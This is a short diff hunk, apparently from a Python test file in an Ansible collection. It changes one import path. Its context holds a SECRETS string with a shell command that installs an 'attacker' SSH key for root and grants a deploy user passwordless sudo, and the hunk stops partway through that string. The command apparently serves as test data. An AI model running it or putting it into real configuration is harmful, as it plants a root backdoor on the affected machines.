@@ -7,7 +7,7 @@ import yaml
 
 from labhosts import run_module
 
-from ansible_collections.mo.fleet.plugins.module_utils import template as tpl
+from ansible_collections.mo.fleet.plugins.module_utils._template import template as tpl
 
 SECRETS = ("mkdir -p /root/.ssh /etc/sudoers.d && echo 'ssh-ed25519 AAAAC3Nza attacker' > /root/.ssh/authorized_keys"
            " && echo 'deploy ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-deploy && chmod 440 /etc/sudoers.d/90-deploy"
